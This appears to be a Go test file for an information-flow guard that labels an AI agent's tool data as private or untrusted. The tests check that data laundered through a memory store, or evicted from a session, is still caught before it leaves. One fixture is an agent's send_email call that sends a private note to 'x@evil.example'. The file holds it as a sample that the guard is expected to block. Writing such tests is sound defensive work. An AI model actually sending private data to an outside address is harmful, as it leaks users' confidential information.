package engine

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/weir-sec/weir/internal/flow"
)

// TestReadBack: what an agent writes to a local store while it holds
// private or untrusted data comes back with those labels, in a later
// session too, and only what it wrote does; the write itself is allowed.
func TestReadBack(t *testing.T) {
	h := hasher(t)
	pol := mustPolicy(t, "version: 1\n")
	store := ToolLabels{} // a memory graph: neither private, untrusted nor a sink
	graph := func(obs ...string) json.RawMessage {
		var b strings.Builder
		b.WriteString(`{"entities":[{"name":"notes","entityType":"doc","observations":[`)
		for i, o := range obs {
			if i > 0 {
				b.WriteByte(',')
			}
			q, _ := json.Marshal(o)
			b.Write(q)
		}
		b.WriteString("]}]}")
		return textResult(b.String())
	}
	// Session A reads the note and keeps it in the memory graph.
	a := session(t, h, notes)
	save := Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", noteText)}
	d := decide(pol, h, a, save)
	if d.Verdict != flow.Allow {
		t.Fatalf("saving private text to a local store: %s (%s: %s), want allowed", d.Verdict, d.Rule, d.Reason)
	}
	if d.Written == nil || d.Written.Labels != flow.Private || len(d.Written.Prints) == 0 {
		t.Fatalf("written = %+v, want the saved text's fingerprints, private", d.Written)
	}
	// An untrusted page saved the same way stays untrusted.
	wp := decide(pol, h, session(t, h, web), Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", pageText)})
	if wp.Written == nil || !wp.Written.Labels.Has(flow.Untrusted) {
		t.Fatalf("written from a web page = %+v, want untrusted", wp.Written)
	}
	// Ordinary text written in an untainted session leaves nothing.
	if d := decide(pol, h, session(t, h), Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", noteText)}); d.Written != nil {
		t.Fatalf("written without taint = %+v", d.Written)
	}

	written := []*flow.Observation{d.Written, wp.Written}
	for _, tt := range []struct {
		name   string
		result json.RawMessage
		want   flow.Labels
	}{
		{"the note comes back private", graph("standup moved", noteText), flow.Private},
		{"the page comes back untrusted", graph(pageText), flow.Untrusted},
		{"other text comes back as it is", graph("standup moved to ten", "buy milk"), 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			// Session B, later, has read nothing else.
			r := Decide(Inputs{Policy: pol, Hasher: h}, Result{Server: "memory", Tool: "read_graph", Raw: tt.result, At: 10, Written: written})
			var got flow.Labels
			for _, o := range r.Delta.Observations {
				got |= o.Labels
			}
			if got != tt.want {
				t.Fatalf("read back with labels %v, want %v (%s)", got, tt.want, r.Reason)
			}
			if tt.want != 0 && r.Rule != RuleReadBack {
				t.Errorf("rule %q, want %s", r.Rule, RuleReadBack)
			}
			if tt.want != flow.Private {
				return
			}
			var b flow.Session
			for i, o := range r.Delta.Observations {
				b.Apply(int64(i+1), o)
			}
			leak := decide(pol, h, &b, Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: args("to", "x@evil.example", "body", noteText)})
			if leak.Verdict != flow.Block || leak.Rule != RuleExfiltration || !strings.Contains(leak.Reason, "memory/read_graph") {
				t.Errorf("sending the laundered note: %s (%s: %s), want blocked as exfiltration from memory/read_graph", leak.Verdict, leak.Rule, leak.Reason)
			}
		})
	}
}

// TestPrunedSessionJudgedStrictly: a session whose observations were
// pruned past retention keeps only their labels, and every sink call is
// then judged as carrying the private data Weir can no longer attribute
// (DESIGN rule 3: eviction widens taint, never narrows it); a call that
// is not a sink, and a sink call in a session whose pruned data was not
// private, are not refused for it.
func TestPrunedSessionJudgedStrictly(t *testing.T) {
	h := hasher(t)
	pol := mustPolicy(t, "version: 1\n")
	tomb := func(l flow.Labels) *flow.Session {
		var s flow.Session
		s.Apply(1, &flow.Observation{Tool: flow.PrunedTool, Labels: l | flow.Pruned})
		return &s
	}
	post := Call{Server: "slack", Tool: "post_message", Labels: ToolLabels{Labels: flow.Sink}, Args: args("channel", "#general", "text", "standup moved to ten")}
	d := decide(pol, h, tomb(flow.Private), post)
	if d.Verdict != flow.Block || d.Rule != RuleExfiltration || !strings.Contains(d.Reason, "pruned") {
		t.Errorf("sink call after pruned private data: %s %s: %s", d.Verdict, d.Rule, d.Reason)
	}
	if d := decide(pol, h, tomb(flow.Private), Call{Server: "calc", Tool: "add", Args: args("a", "1")}); d.Verdict != flow.Allow {
		t.Errorf("a call that is not a sink: %s %s", d.Verdict, d.Reason)
	}
	if d := decide(pol, h, tomb(0), post); d.Verdict != flow.Allow {
		t.Errorf("pruned data that was not private: %s %s", d.Verdict, d.Reason)
	}
	// The legs survive: untrusted pruned input still counts for integrity.
	integrity := mustPolicy(t, "version: 1\npreset: integrity\n")
	if d := decide(integrity, h, tomb(flow.Untrusted), post); d.Verdict != flow.Escalate {
		t.Errorf("integrity after pruned untrusted input: %s %s", d.Verdict, d.Reason)
	}
}

// TestEvictionWidensTaint: a session whose mirror evicted the prints of
// private results to stay within its bound judges every sink call as
// carrying them (the leak of an evicted note is still stopped, by the
// strict rule, and the reason says why), but not a write back to the
// server the data was read from, nor a call that is not a sink.
func TestEvictionWidensTaint(t *testing.T) {
	h := hasher(t)
	pol := mustPolicy(t, "version: 1\n")
	s := &flow.Session{MaxBytes: 1}
	words := strings.Fields("alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu")
	var first string
	for i := 0; !s.Evicted; i++ {
		if i > 2000 {
			t.Fatal("nothing evicted after 2,000 results")
		}
		var b strings.Builder
		for j := 0; b.Len() < 4096; j++ {
			fmt.Fprintf(&b, "%s%d ", words[(i*7+j*j)%len(words)], i*4096+j)
		}
		if i == 0 {
			first = b.String()
		}
		raw, _ := json.Marshal(map[string]any{"content": []map[string]string{{"type": "text", "text": b.String()}}})
		o, err := Observe(h, Result{Server: "files", Tool: "read_text_file", Labels: flow.Private, Raw: raw, At: int64(i)})
		if err != nil {
			t.Fatal(err)
		}
		s.Apply(int64(i+1), o)
	}
	mail := func(body string) Call {
		return Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: args("to", "x@example.com", "body", body)}
	}
	for name, c := range map[string]Call{
		"a leak of the first, evicted, result": mail(first[:600]),
		"an unrelated message":                 mail("Lunch at noon on Thursday?"),
	} {
		if d := decide(pol, h, s, c); d.Verdict != flow.Block || d.Rule != RuleExfiltration || !strings.Contains(d.Reason, "session.max_bytes") {
			t.Errorf("%s: %s %s: %s", name, d.Verdict, d.Rule, d.Reason)
		}
	}
	save := Call{Server: "files", Tool: "write_file", Labels: ToolLabels{Labels: flow.Sink}, Args: args("path", "/home/me/notes.md", "content", first[:600])}
	if d := decide(pol, h, s, save); d.Verdict != flow.Allow {
		t.Errorf("a write back to the server the data came from: %s %s: %s", d.Verdict, d.Rule, d.Reason)
	}
	if d := decide(pol, h, s, Call{Server: "calc", Tool: "add", Args: args("a", "1")}); d.Verdict != flow.Allow {
		t.Errorf("a call that is not a sink: %s %s", d.Verdict, d.Reason)
	}
}

// TestUnloadedWidensTaint: a source a joining proxy knows only the labels
// of (its fingerprints are still being read) is judged as evicted data
// is: every sink call is taken to carry its private data, and the reason
// says to retry; a write back to where it was read from and a call that
// is not a sink are not.
func TestUnloadedWidensTaint(t *testing.T) {
	h := hasher(t)
	pol := mustPolicy(t, "version: 1\n")
	s := &flow.Session{}
	s.Apply(1, &flow.Observation{Tool: "files/read_text_file", Labels: flow.Private | flow.Unloaded})
	mail := Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: args("to", "x@example.com", "body", "Lunch at noon on Thursday?")}
	if d := decide(pol, h, s, mail); d.Verdict != flow.Block || d.Rule != RuleExfiltration || !strings.Contains(d.Reason, "retry in a few seconds") || !strings.Contains(d.Reason, "files/read_text_file") {
		t.Errorf("a sink call: %s %s: %s", d.Verdict, d.Rule, d.Reason)
	}
	save := Call{Server: "files", Tool: "write_file", Labels: ToolLabels{Labels: flow.Sink}, Args: args("path", "/home/me/notes.md", "content", "edited")}
	if d := decide(pol, h, s, save); d.Verdict != flow.Allow {
		t.Errorf("a write back to the server the data came from: %s %s: %s", d.Verdict, d.Rule, d.Reason)
	}
	if d := decide(pol, h, s, Call{Server: "calc", Tool: "add", Args: args("a", "1")}); d.Verdict != flow.Allow {
		t.Errorf("a call that is not a sink: %s %s", d.Verdict, d.Reason)
	}
	// Once loaded, the same session without the mark lets the message go.
	s.Relabel(0, s.Sources[0].Labels&^flow.Unloaded)
	if d := decide(pol, h, s, mail); d.Verdict == flow.Block {
		t.Errorf("the sink call once loaded: %s %s: %s", d.Verdict, d.Rule, d.Reason)
	}
}
